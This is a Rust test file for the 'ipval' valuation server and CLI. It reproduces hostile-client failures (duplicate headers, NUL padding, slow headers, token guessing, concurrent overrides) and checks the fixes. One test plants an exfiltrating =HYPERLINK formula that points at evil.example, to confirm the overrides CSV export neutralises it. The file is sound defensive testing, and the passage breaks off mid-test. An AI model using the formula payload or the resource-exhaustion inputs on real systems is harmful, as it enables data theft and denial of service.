//! Issue 24: what a hostile or unlucky client sends. Each test reproduces one observed failure
//! (the issue's table row in its comment) and checks the behaviour that replaced it.

use super::serve::{Server, SAMPLE};
use crate::common::{AS_OF, MARKET};
use ipval::ingest::{market, portfolio};
use serde_json::Value;
use std::path::Path;
use std::process::Command;

fn as_of() -> chrono::NaiveDate {
    chrono::NaiveDate::parse_from_str(AS_OF, "%Y-%m-%d").unwrap()
}

/// The first `rows` data rows of the sample with an extra column `extra` (as its header)
/// holding `value` in every row.
fn sample_with_column(rows: usize, extra: &str, value: &str) -> String {
    let text = std::fs::read_to_string(SAMPLE).unwrap();
    text.lines()
        .take(rows + 1)
        .enumerate()
        .map(|(i, l)| format!("{l},{}\n", if i == 0 { extra } else { value }))
        .collect()
}

/// Runs the `ipval` binary with `args`.
fn ipval<S: AsRef<std::ffi::OsStr>>(args: &[S]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_ipval"))
        .args(args)
        .env_remove("IPVAL_TOKEN")
        .output()
        .unwrap()
}

/// `ipval value` on the sample at the tests' date, no draws or plots, into `out`, with `extra`.
fn value_sample(out: &Path, extra: &[&str]) -> std::process::Output {
    let out = out.to_str().unwrap();
    let mut args = vec![
        "value",
        "--portfolio",
        SAMPLE,
        "--market",
        MARKET,
        "--as-of",
        AS_OF,
    ];
    args.extend(["--draws", "0", "--no-plots", "--out", out]);
    args.extend(extra);
    ipval(&args)
}

/// `ipval serve` on `data`, expected to refuse to start: its stderr.
fn failed_start(data: &Path) -> String {
    let data = data.to_str().unwrap();
    let o = ipval(&[
        "serve",
        "--addr",
        "127.0.0.1:0",
        "--as-of",
        AS_OF,
        "--draws",
        "10",
        "--data",
        data,
    ]);
    assert_eq!(o.status.code(), Some(1));
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// `ipval validate` on `path`: (exit code, stderr).
fn validate(path: &Path) -> (i32, String) {
    let path = path.to_str().unwrap();
    let o = ipval(&[
        "validate",
        "--market",
        MARKET,
        "--as-of",
        AS_OF,
        "--portfolio",
        path,
    ]);
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

/// The library's error message reading `path` as a portfolio (it must be an error).
fn read_error(path: &Path) -> String {
    let m = market::read(Path::new(MARKET)).unwrap();
    match portfolio::read(path, &m, as_of()) {
        Ok(p) => panic!("{}: read {} assets", path.display(), p.assets.len()),
        Err(e) => e.to_string(),
    }
}

/// The sample's first three rows, with an extra text column `extra` of `x`s, as Parquet bytes;
/// `change` is applied to the frame first.
fn sample_parquet(extra: &str, change: impl FnOnce(&mut polars::prelude::DataFrame)) -> Vec<u8> {
    use polars::prelude::*;
    let csv = tempfile::NamedTempFile::with_suffix(".csv").unwrap();
    std::fs::write(csv.path(), sample_with_column(3, extra, "x")).unwrap();
    let mut df = CsvReadOptions::default()
        .with_has_header(true)
        .with_infer_schema_length(Some(0))
        .try_into_reader_with_file_path(Some(csv.path().to_path_buf()))
        .unwrap()
        .finish()
        .unwrap();
    change(&mut df);
    let mut bytes = vec![];
    ParquetWriter::new(&mut bytes).finish(&mut df).unwrap();
    bytes
}

/// The sample's first rows as Parquet with an extra column `asset_ie`, then renamed to
/// `asset_id` in the file's bytes (polars cannot write two columns of one name; a Parquet
/// footer holds names as plain text of their own length, so the patch keeps the file valid).
fn parquet_with_repeated_asset_id(path: &Path) {
    let mut bytes = sample_parquet("asset_ie", |_| {});
    let (from, to) = (b"asset_ie", b"asset_id");
    let mut patched = 0;
    for i in 0..bytes.len() - from.len() {
        if &bytes[i..i + from.len()] == from {
            bytes[i..i + from.len()].copy_from_slice(to);
            patched += 1;
        }
    }
    assert!(patched >= 2, "schema and column chunk names: {patched}");
    std::fs::write(path, bytes).unwrap();
}

/// Row 7: an exact repeat of `asset_id` (or `owner`) was valued, the second column carried as
/// `asset_id_duplicated_0`. Now a structural error (exit 1) naming the column, from every
/// reader: CSV, Parquet, xlsx and the API's CSV body.
#[test]
fn an_exact_repeated_header_is_refused_by_every_reader() {
    let dir = tempfile::tempdir().unwrap();
    for column in ["asset_id", "owner"] {
        let csv = dir.path().join(format!("{column}.csv"));
        std::fs::write(&csv, sample_with_column(3, column, "X")).unwrap();
        let e = read_error(&csv);
        assert!(
            e.contains(&format!("column `{column}` appears twice")),
            "{e}"
        );
        let (code, err) = validate(&csv);
        assert_eq!(code, 1, "{err}");
        assert!(err.contains("appears twice (columns"), "{err}");
    }

    // The repeat is the column after the sample's own.
    let repeat = format!(
        "column `asset_id` appears twice (columns 1 and {})",
        sample_with_column(0, "x", "").split(',').count()
    );
    let parquet = dir.path().join("p.parquet");
    parquet_with_repeated_asset_id(&parquet);
    let e = read_error(&parquet);
    assert!(e.contains(&repeat), "{e}");
    assert_eq!(validate(&parquet).0, 1);

    let xlsx = dir.path().join("p.xlsx");
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    for (r, line) in sample_with_column(3, "asset_id", "X").lines().enumerate() {
        for (c, cell) in line.split(',').enumerate() {
            ws.write_string(r as u32, c as u16, cell).unwrap();
        }
    }
    wb.save(&xlsx).unwrap();
    let e = read_error(&xlsx);
    assert!(e.contains(&repeat), "{e}");

    let s = Server::start(&dir.path().join("data"), &[]);
    let body = sample_with_column(3, "asset_id", "X");
    let r = s.req(
        "POST",
        "/v1/valuations",
        &[("Content-Type", "text/csv")],
        body.as_bytes(),
    );
    assert_eq!(r.status, 422, "{}", r.text());
    assert_eq!(r.header("content-type"), Some("application/problem+json"));
    assert_eq!(r.json()["column"], "asset_id");
    // The JSON form: a key given twice in a row object (serde_json would keep the last).
    let body =
        r#"[{"asset_id": "A", "owner": "O"}, {"owner": "P", "asset_id": "B", "asset_id": "C"}]"#;
    let r = s.req(
        "POST",
        "/v1/valuations",
        &[("Content-Type", "application/json")],
        body.as_bytes(),
    );
    assert_eq!(r.status, 422, "{}", r.text());
    let p = r.json();
    assert_eq!(
        (&p["row"], &p["column"]),
        (&Value::from(3), &Value::from("asset_id"))
    );
    assert!(p["detail"].as_str().unwrap().contains("given twice"), "{p}");
}

/// Row 2: work grew with the square of the columns (10,000 columns, a 64 KB file, took over
/// 300 s). A header is checked in one pass, and more than `MAX_COLUMNS` columns are refused
/// with a message naming the limit, by the file readers and the API alike.
#[test]
fn columns_are_capped_and_a_repeat_among_many_is_named() {
    use ipval::ingest::frame::{Table, MAX_COLUMNS};
    let mut header: Vec<String> = (0..MAX_COLUMNS - 1).map(|i| format!("c{i}")).collect();
    header.push("C17".into());
    let name = Path::new("body");
    let text = format!("{}\n", header.join(","));
    let e = Table::from_csv_bytes(name, text.as_bytes(), None)
        .err()
        .unwrap()
        .to_string();
    assert_eq!(e, "body: column `C17` appears twice (columns 18 and 1024)");

    let wide: Vec<String> = (0..5000).map(|i| format!("c{i}")).collect();
    let text = format!("asset_id,{}\n", wide.join(","));
    let e = Table::from_csv_bytes(name, text.as_bytes(), None)
        .err()
        .unwrap()
        .to_string();
    assert_eq!(
        e,
        "body: the header has 5001 columns; at most 1024 are read"
    );
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("wide.csv");
    std::fs::write(&file, &text).unwrap();
    assert!(read_error(&file).contains("at most 1024 are read"));
    let s = Server::start(&dir.path().join("data"), &[]);
    let r = s.req(
        "POST",
        "/v1/valuations",
        &[("Content-Type", "text/csv")],
        text.as_bytes(),
    );
    assert_eq!(r.status, 422, "{}", r.text());
    assert!(r.json()["detail"]
        .as_str()
        .unwrap()
        .contains("at most 1024"));
}

/// Row 15 / item 1: a body of empty cells costs polars tens of bytes a cell whatever its size.
/// CSV text held in memory (a request body) is refused past `MAX_CELLS` cells, before it is
/// parsed, naming the limit.
#[test]
fn a_body_of_too_many_cells_is_refused_before_it_is_read() {
    use ipval::ingest::frame::{Table, MAX_CELLS};
    let columns = 1000;
    let rows = MAX_CELLS / columns + 1;
    let header: Vec<String> = (0..columns).map(|i| format!("c{i}")).collect();
    let mut text = format!("{}\n", header.join(",")).into_bytes();
    let row = format!("{}\n", ",".repeat(columns - 1));
    for _ in 0..rows {
        text.extend_from_slice(row.as_bytes());
    }
    let e = Table::from_csv_bytes(Path::new("body"), &text, None)
        .err()
        .unwrap()
        .to_string();
    assert_eq!(
        e,
        format!(
            "body: {} lines of 1000 columns are {} cells; at most 20000000 are read at once \
             (send the portfolio in parts)",
            rows + 2,
            (rows + 2) * 1000
        )
    );
}

/// Row 1: 100,000 rows sharing one `asset_id` grew the server past 24 GB (every copy learnt
/// every other: quadratic). Each copy now names the first ten others and counts the rest; the
/// run stays linear (20,000 copies here, under an address-space limit of 2 GiB set on the
/// `validate` process).
#[test]
fn many_copies_of_one_id_are_rejected_in_linear_memory() {
    let dir = tempfile::tempdir().unwrap();
    let text = std::fs::read_to_string(SAMPLE).unwrap();
    let mut lines = text.lines();
    let header = lines.next().unwrap();
    let row = lines.next().unwrap();
    let mut csv = format!("{header}\n");
    for _ in 0..20_000 {
        csv.push_str(row);
        csv.push('\n');
    }
    let path = dir.path().join("dups.csv");
    std::fs::write(&path, &csv).unwrap();
    let script = format!(
        "ulimit -v {}; exec '{}' validate --market '{MARKET}' --as-of {AS_OF} --portfolio '{}'",
        2 * 1024 * 1024,
        env!("CARGO_BIN_EXE_ipval"),
        path.display()
    );
    let o = Command::new("sh").arg("-c").arg(&script).output().unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(out.contains("20000 rows, 0 valid, 20000 rejected"), "{out}");
    assert!(
        out.contains(
            "duplicate asset_id (also on row 3, 4, 5, 6, 7, 8, 9, 10, 11, 12 and 19989 more)"
        ),
        "{out}"
    );
}

/// Row 15: a NUL-padded file cost about 6.4 times its size (a 2 GB sparse file reached
/// 12.6 GB); only the header was bounded. A NUL byte anywhere in CSV text is now refused before
/// polars reads it, naming its row and column: here 1 GiB of NUL bytes inside the second data
/// row's `owner` cell, under an address-space limit of 2 GiB set on the `validate` process.
#[test]
fn nul_padding_inside_a_data_row_is_refused_in_bounded_memory() {
    use std::io::{Seek, SeekFrom, Write};
    let dir = tempfile::tempdir().unwrap();
    let text = std::fs::read_to_string(SAMPLE).unwrap();
    let mut lines = text.lines();
    let header = lines.next().unwrap();
    let owner = header.split(',').position(|h| h == "owner").unwrap();
    let (first, second) = (lines.next().unwrap(), lines.next().unwrap());
    let cells: Vec<&str> = second.split(',').collect();
    let path = dir.path().join("padded-rows.csv");
    let mut f = std::fs::File::create(&path).unwrap();
    write!(f, "{header}\n{first}\n{},", cells[..owner].join(",")).unwrap();
    // A hole of 1 GiB reads as NUL bytes and takes no disk space.
    let end = f.stream_position().unwrap() + (1 << 30);
    f.set_len(end).unwrap();
    f.seek(SeekFrom::Start(end)).unwrap();
    writeln!(f, "{}", cells[owner..].join(",")).unwrap();
    drop(f);
    let script = format!(
        "ulimit -v {}; exec '{}' validate --market '{MARKET}' --as-of {AS_OF} --portfolio '{}'",
        2 * 1024 * 1024,
        env!("CARGO_BIN_EXE_ipval"),
        path.display()
    );
    let o = Command::new("sh").arg("-c").arg(&script).output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{err}");
    let needle = format!(
        "padded-rows.csv: row 3, column {} (`owner`) holds a NUL byte",
        owner + 1
    );
    assert!(err.contains(&needle), "{err}");
}

/// Row 8: query-string errors were answered 400 `text/plain` "Failed to deserialize query
/// string". Every 4xx is now problem+json, naming the option.
#[test]
fn query_string_errors_are_problem_json() {
    let dir = tempfile::tempdir().unwrap();
    let s = Server::start(&dir.path().join("data"), &["--max-body", "1000"]);
    let body = std::fs::read(SAMPLE).unwrap();
    let body = &body[..body.iter().position(|b| *b == b'\n').unwrap() + 1];
    for (query, needle) in [
        ("draws=-1", "draws"),
        ("draws=abc", "draws"),
        ("draws=99999999999999999999999", "draws"),
        ("seed=-1", "seed"),
    ] {
        let r = s.req(
            "POST",
            &format!("/v1/valuations?{query}"),
            &[("Content-Type", "text/csv")],
            body,
        );
        assert_eq!(r.status, 400, "{query}: {}", r.text());
        assert_eq!(
            r.header("content-type"),
            Some("application/problem+json"),
            "{query}"
        );
        let p = r.json();
        assert_eq!(p["status"], 400);
        assert!(
            p["detail"].as_str().unwrap().contains(needle),
            "{query}: {p}"
        );
    }
    // The body limit's 413, an unknown route and a wrong method: problem+json too.
    let r = s.req("POST", "/v1/valuations", &[], &[b'a'; 5000]);
    assert_eq!(r.status, 413);
    assert_eq!(r.header("content-type"), Some("application/problem+json"));
    let r = s.req("DELETE", "/v1/assets", &[], b"");
    assert_eq!(r.status, 405);
    assert_eq!(r.header("content-type"), Some("application/problem+json"));
    assert_eq!(s.get_json("/v1/health")["status"], "ok");
}

/// Row 15: an error answer echoed the whole unreadable header (10 MB of NUL bytes gave a 60 MB
/// answer) and a NUL-padded file cost several times its size. Answers now quote at most a few
/// hundred bytes of what they refuse, and a header row longer than 1 MiB is refused after
/// reading no more than that.
#[test]
fn an_error_answer_quotes_a_bounded_part_of_the_input() {
    let dir = tempfile::tempdir().unwrap();
    let s = Server::start(&dir.path().join("data"), &[]);
    let post = |body: &[u8]| {
        s.req(
            "POST",
            "/v1/valuations",
            &[("Content-Type", "text/csv")],
            body,
        )
    };
    let mut body = vec![0u8; 500_000];
    body.push(b'\n');
    let r = post(&body);
    assert_eq!(r.status, 422, "{}", &r.text()[..r.text().len().min(300)]);
    assert!(r.body.len() < 4096, "an answer of {} bytes", r.body.len());
    assert!(r.json()["detail"]
        .as_str()
        .unwrap()
        .contains("row 1, column 1 holds a NUL byte"));
    let r = post(&vec![0u8; 10 << 20]);
    assert_eq!(r.status, 422);
    assert!(r.body.len() < 4096, "an answer of {} bytes", r.body.len());
    assert!(
        r.json()["detail"]
            .as_str()
            .unwrap()
            .contains("the header row is longer than 1048576 bytes"),
        "{}",
        r.text()
    );
    // A NUL-padded file: refused by the CLI too, naming the file.
    let file = dir.path().join("padded.csv");
    std::fs::write(&file, vec![0u8; 3 << 20]).unwrap();
    let e = read_error(&file);
    assert!(
        e.contains("padded.csv: the header row is longer than"),
        "{e}"
    );
}

/// A server on a fresh data folder: (the folder's parent, the data folder, the server, the
/// `asset_id` its queue lists first).
fn workbench() -> (tempfile::TempDir, std::path::PathBuf, Server, String) {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let s = Server::start(&data, &[]);
    let id = s.first_asset_id();
    (dir, data, s, id)
}

/// The server's log lines, parsed.
fn log_entries(data: &Path) -> Vec<Value> {
    std::fs::read_to_string(data.join("audit.jsonl"))
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// Row 6: an override of `owner` was answered 200; the asset vanished from the live workbench
/// and came back under its new owner after a restart. Key columns are not overridable, in the
/// API and in `ipval value --overrides` alike (one rule: the overrides reader's).
#[test]
fn key_columns_cannot_be_overridden_anywhere() {
    let (dir, data, s, id) = workbench();
    let before = s.get_json("/v1/assets").as_array().unwrap().len();
    for field in ["owner", "asset_id"] {
        let r = s.post_json(
            &format!("/v1/assets/{id}/overrides"),
            &serde_json::json!({"field": field, "value": "Someone Else Ltd", "reviewer": "R", "reason": "x"}),
        );
        assert_eq!(r.status, 422, "{field}: {}", r.text());
        assert_eq!(r.header("content-type"), Some("application/problem+json"));
        let p = r.json();
        assert_eq!(p["column"], "field");
        assert!(
            p["detail"]
                .as_str()
                .unwrap()
                .contains("cannot be overridden"),
            "{p}"
        );
    }
    assert_eq!(s.get_json("/v1/assets").as_array().unwrap().len(), before);
    assert!(log_entries(&data).is_empty());
    drop(s);

    let overrides = dir.path().join("o.csv");
    std::fs::write(
        &overrides,
        format!("asset_id,field,value,reviewer,reason\n{id},owner,Someone Else Ltd,R,x\n"),
    )
    .unwrap();
    let overrides = overrides.to_str().unwrap();
    let o = value_sample(&dir.path().join("out"), &["--overrides", overrides]);
    assert_eq!(o.status.code(), Some(1));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("row 2, column `field`") && err.contains("`owner` identifies or groups"),
        "{err}"
    );
}

/// Row 9: `GET /v1/overrides.csv` wrote reviewer and reason cells such as
/// `=HYPERLINK(…)` unguarded. They now carry the `'` of every ipval CSV, and the overrides
/// reader removes it: the file given to `ipval value --overrides` sets exactly the workbench's
/// values.
#[test]
fn the_exported_overrides_are_guarded_and_read_back_exactly() {
    let (dir, data, s, id) = workbench();
    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    let reason = "'+already quoted";
    let r = s.post_json(
        &format!("/v1/assets/{id}/overrides"),
        &serde_json::json!({"field": "royalty_rate", "value": "0.031", "reviewer": evil, "reason": reason}),
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let r = s.req("GET", "/v1/overrides.csv", &[], b"");
    assert_eq!(r.status, 200);
    let text = r.text();
    let mut rows = csv::Reader::from_reader(text.as_bytes());
    let row = rows.records().next().unwrap().unwrap();
    assert_eq!(&row[3], format!("'{evil}"));
    assert_eq!(&row[4], format!("'{reason}"));
    // Read back by the CLI's overrides reader: the values as set, not as guarded.
    let path = dir.path().join("overrides.csv");
    std::fs::write(&path, &text).unwrap();
    let m = market::read(Path::new(MARKET)).unwrap();
    let mut p = portfolio::read(Path::new(SAMPLE), &m, as_of()).unwrap();
    let models = ipval::params::ModelSet::embedded().unwrap();
    let ov = ipval::overrides::apply(&path, &mut p, &m, &models, as_of()).unwrap();
    assert_eq!(ov.applied.len(), 1);
    assert_eq!(ov.applied[0].reviewer, evil);
    assert_eq!(ov.applied[0].reason, reason);
    assert_eq!(ov.applied[0].value, "0.031");
    // The workbench replays its own log through the same file: a restart keeps the values.
    drop(s);
    let s = Server::start(&data, &[]);
    let r = s.req("GET", "/v1/overrides.csv", &[], b"");
    assert_eq!(r.text(), text);
}

/// Row 13: pages sent no anti-framing header, and the login cookie was the token itself,
/// without expiry.
#[test]
fn the_workbench_cannot_be_framed_and_its_cookie_is_not_the_token() {
    let dir = tempfile::tempdir().unwrap();
    let token = "s3cret-token-for-tests-0123";
    let s = Server::start(&dir.path().join("data"), &["--token", token]);
    for path in ["/login", "/v1/health"] {
        let r = s.req("GET", path, &[], b"");
        assert_eq!(
            r.header("content-security-policy"),
            Some("frame-ancestors 'none'"),
            "{path}"
        );
        assert_eq!(r.header("x-frame-options"), Some("DENY"), "{path}");
    }
    let login = |proto: Option<&str>| {
        let mut h = vec![("Content-Type", "application/x-www-form-urlencoded")];
        if let Some(p) = proto {
            h.push(("X-Forwarded-Proto", p));
        }
        s.req("POST", "/login", &h, format!("token={token}").as_bytes())
    };
    let r = login(None);
    assert_eq!(r.status, 303);
    let cookie = r.header("set-cookie").unwrap().to_string();
    assert!(!cookie.contains(token), "{cookie}");
    for part in ["HttpOnly", "SameSite=Strict", "Max-Age=43200"] {
        assert!(cookie.contains(part), "{cookie}");
    }
    assert!(!cookie.contains("Secure"), "{cookie}");
    let session = cookie.split(';').next().unwrap().to_string();
    let (name, id) = session.split_once('=').unwrap();
    assert_eq!(name, "ipval_session");
    assert_eq!(id.len(), 64);
    let page = s.req("GET", "/queue", &[("Cookie", &session)], b"");
    assert_eq!(page.status, 200);
    assert_eq!(page.header("x-frame-options"), Some("DENY"));
    // The token as the cookie (the old scheme) opens nothing; a second login is another id.
    let old = format!("ipval_session={token}");
    assert_eq!(s.req("GET", "/queue", &[("Cookie", &old)], b"").status, 303);
    let again = login(Some("https"));
    let again = again.header("set-cookie").unwrap();
    assert!(again.contains("; Secure"), "{again}");
    assert_ne!(again.split(';').next().unwrap(), session);
}

/// Row 13: about 6,000 wrong tokens a second were answered 401 without throttling. After 30
/// failures in a minute every token check from that address is answered 429 without being
/// compared, the right token included; a session already open continues, and another client
/// (here 127.0.0.2) is not locked out by the guesser.
#[test]
fn failed_logins_are_throttled() {
    let dir = tempfile::tempdir().unwrap();
    let token = "s3cret-token-for-tests-0123";
    let s = Server::start(&dir.path().join("data"), &["--token", token]);
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    let r = s.req("POST", "/login", &form, format!("token={token}").as_bytes());
    let session = r
        .header("set-cookie")
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    for _ in 0..15 {
        assert_eq!(s.req("POST", "/login", &form, b"token=wrong").status, 401);
        let wrong = [("Authorization", "Bearer wrong-token-wrong-token")];
        assert_eq!(s.req("GET", "/v1/assets", &wrong, b"").status, 401);
    }
    let r = s.req("POST", "/login", &form, format!("token={token}").as_bytes());
    assert_eq!(r.status, 429, "{}", r.text());
    assert_eq!(r.header("retry-after"), Some("60"));
    let bearer = format!("Bearer {token}");
    assert_eq!(
        s.req("GET", "/v1/assets", &[("Authorization", &bearer)], b"")
            .status,
        429
    );
    assert_eq!(
        s.req("GET", "/queue", &[("Cookie", &session)], b"").status,
        200
    );
    // Another address: its right token is accepted, its wrong ones counted on their own.
    let other = |method: &str, path: &str, headers: &[(&str, &str)], body: &[u8]| {
        super::serve::request_from("127.0.0.2", &s.addr, method, path, headers, body).status
    };
    let body = format!("token={token}");
    assert_eq!(other("POST", "/login", &form, body.as_bytes()), 303);
    assert_eq!(
        other("GET", "/v1/assets", &[("Authorization", &bearer)], b""),
        200
    );
    assert_eq!(other("POST", "/login", &form, b"token=wrong"), 401);
    assert_eq!(s.req("POST", "/login", &form, body.as_bytes()).status, 429);
}

/// Row 11: two `ipval value` runs into one `--out` left a mixed set. A run holds a lock on the
/// folder while it writes; a second is refused with a clear message (exit 1) and writes
/// nothing.
#[test]
fn a_second_run_into_the_same_folder_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let run = || value_sample(&out, &[]);
    // Another run holding the folder (as `ipval value` holds it while writing).
    let held = ipval::atomic::lock_out(&out).unwrap();
    let o = run();
    assert_eq!(o.status.code(), Some(1));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("another ipval run is writing into this folder"),
        "{err}"
    );
    assert_eq!(std::fs::read_dir(&out).unwrap().count(), 0);
    drop(held);
    let o = run();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(out.join("assets.csv").exists());
    // Nothing of the lock is left among the outputs.
    assert!(!out.join(ipval::atomic::LOCK_FILE).exists());
}

/// Rows 5, 10 and 14 end to end: the start and `ipval audit verify` name a damaged line of
/// `audit.jsonl` and say how to repair it; an override of the log that no longer applies is
/// named by its line, not by a row of an internal table.
#[test]
fn a_damaged_log_is_named_by_its_line_at_start_and_by_verify() {
    let (_dir, data, s, id) = workbench();
    for (field, value) in [("royalty_rate", "0.02"), ("discount_rate", "0.12")] {
        let r = s.post_json(
            &format!("/v1/assets/{id}/overrides"),
            &serde_json::json!({"field": field, "value": value, "reviewer": "R", "reason": "x"}),
        );
        assert_eq!(r.status, 200, "{}", r.text());
    }
    drop(s);
    let verify = || {
        ipval(&[
            "audit".as_ref(),
            "verify".as_ref(),
            "--data".as_ref(),
            data.as_os_str(),
        ])
    };
    let o = verify();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stdout).contains("2 entries"));

    let log = data.join("audit.jsonl");
    let good = std::fs::read_to_string(&log).unwrap();
    // An edited value (still valid JSON): the next line's hash no longer matches.
    std::fs::write(
        &log,
        good.replacen("\"new\":\"0.02\"", "\"new\":\"0.05\"", 1),
    )
    .unwrap();
    let o = verify();
    assert_eq!(o.status.code(), Some(1));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("audit.jsonl: line 2: its `prev` is not the hash of line 1"),
        "{err}"
    );
    let err = failed_start(&data);
    assert!(
        err.contains("line 2:") && err.contains("restore audit.jsonl"),
        "{err}"
    );

    // A log whose last override no longer validates (the chain cannot see an edit of the
    // last line, which has no successor): the start names it by its line.
    let bad = good.replacen("\"new\":\"0.12\"", "\"new\":\"lots\"", 1);
    std::fs::write(&log, bad).unwrap();
    assert!(verify().status.success());
    let err = failed_start(&data);
    assert!(
        err.contains("audit.jsonl: replaying the overrides of the audit log: line 2, `value`"),
        "{err}"
    );
}

/// Row 4: a change answered 503 was applied all the same. A change whose deadline has passed
/// (or whose client hung up) before it is written is not applied and not logged.
#[test]
fn a_change_past_its_deadline_is_neither_applied_nor_logged() {
    use ipval::serve::workbench::{ChangeError, Deadline, OverrideRequest, Workbench};
    let dir = tempfile::tempdir().unwrap();
    let m = market::read(Path::new(MARKET)).unwrap();
    let p = portfolio::read(Path::new(SAMPLE), &m, as_of()).unwrap();
    let models = ipval::params::ModelSet::embedded().unwrap();
    let cfg = ipval::config::RunConfig::in_memory(as_of(), 0, 1);
    let (mut w, _) = Workbench::open(cfg, m, models, p, dir.path()).unwrap();
    let id = w.assets()[0].asset.asset_id.clone();
    let req = || OverrideRequest {
        field: "royalty_rate".into(),
        value: "0.02".into(),
        reviewer: "R".into(),
        reason: "x".into(),
    };
    let late = Deadline::after(std::time::Duration::ZERO);
    assert!(matches!(
        w.override_asset(&id, req(), &late),
        Err(ChangeError::NotApplied)
    ));
    let gone = Deadline::after(std::time::Duration::from_secs(60));
    gone.cancel();
    assert!(matches!(
        w.sign_off(&id, "R", ipval::serve::audit::Decision::Accepted, "", &gone),
        Err(ChangeError::NotApplied)
    ));
    assert!(w.entries().is_empty() && w.in_effect().is_empty());
    let on_time = Deadline::after(std::time::Duration::from_secs(60));
    let change = w.override_asset(&id, req(), &on_time).unwrap();
    assert_eq!(change.entry.seq, 1);
    let lines = std::fs::read_to_string(dir.path().join("audit.jsonl")).unwrap();
    assert_eq!(lines.lines().count(), 1);
}

/// Row 3: a request whose headers arrived a byte a second was still open after 170 s, and
/// about 20,000 such connections took every descriptor. The server now closes a connection
/// whose headers are not complete within its header timeout (10 s), and answers others
/// meanwhile.
#[test]
fn a_slow_header_client_is_closed_by_the_server() {
    use std::io::{Read, Write};
    let dir = tempfile::tempdir().unwrap();
    let s = Server::start(&dir.path().join("data"), &[]);
    let mut slow = std::net::TcpStream::connect(&s.addr).unwrap();
    slow.write_all(b"GET /v1/health HTTP/1.1\r\nHo").unwrap();
    // Meanwhile the server answers.
    assert_eq!(s.get_json("/v1/health")["status"], "ok");
    // The read ends (the server closed) well before this generous limit.
    slow.set_read_timeout(Some(std::time::Duration::from_secs(60)))
        .unwrap();
    let mut buf = [0u8; 1024];
    let closed = match slow.read(&mut buf) {
        Ok(_) => true, // 0 (closed) or a 408 answer before the close
        Err(e) => e.kind() == std::io::ErrorKind::ConnectionReset,
    };
    assert!(closed, "the slow connection was not closed by the server");
}

/// Row 10: a Parquet list column failed with "cannot cast List type (inner: 'Int64', to:
/// 'String')" and a time-zone-aware timestamp with "cannot format timezone-naive Datetime",
/// neither naming the column. A column of a type the reader cannot take as text is refused
/// naming the file, the column and its type. Time-zone-aware timestamps written by polars read
/// as naive ones do; those pyarrow writes (the seeds `tz-utc` and `tz-berlin`, from
/// fuzz/seeds.py) reproduced the failure: in UTC they are now read, in another zone refused
/// naming the file, the column and the zone.
#[test]
fn parquet_columns_of_unreadable_types_are_named() {
    use polars::prelude::*;
    let dir = tempfile::tempdir().unwrap();
    let list = dir.path().join("list.parquet");
    let bytes = sample_parquet("note", |df| {
        let mut b = ListPrimitiveChunkedBuilder::<Int64Type>::new(
            "note".into(),
            df.height(),
            2,
            DataType::Int64,
        );
        for i in 0..df.height() {
            b.append_slice(&[i as i64, 7]);
        }
        df.with_column(b.finish().into_column()).unwrap();
    });
    std::fs::write(&list, bytes).unwrap();
    let e = read_error(&list);
    assert!(
        e.contains("list.parquet") && e.contains("column `note`"),
        "{e}"
    );

    let when = |tz: Option<TimeZone>| {
        move |df: &mut DataFrame| {
            // 2014-09-06 00:00 UTC, in microseconds.
            let t = Int64Chunked::full("filing_date".into(), 1_409_961_600_000_000, df.height())
                .into_series()
                .cast(&DataType::Datetime(TimeUnit::Microseconds, tz))
                .unwrap();
            df.with_column(t.into_column()).unwrap();
        }
    };
    let m = market::read(Path::new(MARKET)).unwrap();
    let singapore = TimeZone::opt_try_new(Some("Asia/Singapore")).unwrap();
    for (name, tz) in [
        ("naive", None),
        ("utc", Some(TimeZone::UTC)),
        ("singapore", singapore),
    ] {
        let p = dir.path().join(format!("{name}.parquet"));
        std::fs::write(&p, sample_parquet("note", when(tz))).unwrap();
        let read = portfolio::read(&p, &m, as_of()).map_err(|e| e.to_string());
        let read = read.unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(read.rejected, vec![], "{name}");
        assert_eq!(
            read.assets[0].filing_date.to_string(),
            "2014-09-06",
            "{name}"
        );
    }
    let seed = |name: &str| {
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("fuzz/corpus/portfolio_parquet")
            .join(name)
    };
    let utc = portfolio::read(&seed("tz-utc.parquet"), &m, as_of()).unwrap();
    assert_eq!(utc.rejected, vec![]);
    let first = utc.assets.iter().find(|a| a.asset_id == "SG-PAT-2014-4603");
    assert_eq!(
        first.map(|a| a.filing_date.to_string()).as_deref(),
        Some("2014-09-06")
    );
    let e = read_error(&seed("tz-berlin.parquet"));
    assert!(
        e.contains(
            "tz-berlin.parquet: column `filing_date` holds timestamps in the time zone \
             Europe/Berlin, which are not read"
        ),
        "{e}"
    );
}

/// Row 4: of 450 concurrent overrides, 134 were answered 503 and all 134 were applied and
/// logged. A burst now gets 2xx for exactly the changes in the log and 503 "not applied" for
/// the rest (past the queue of 32, or past their deadline): the property holds whatever the
/// timing.
#[test]
fn a_burst_of_overrides_logs_exactly_the_ones_answered_2xx() {
    let (_dir, data, s, id) = workbench();
    let statuses: Vec<(usize, u16, String)> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..80)
            .map(|i| {
                let (s, id) = (&s, &id);
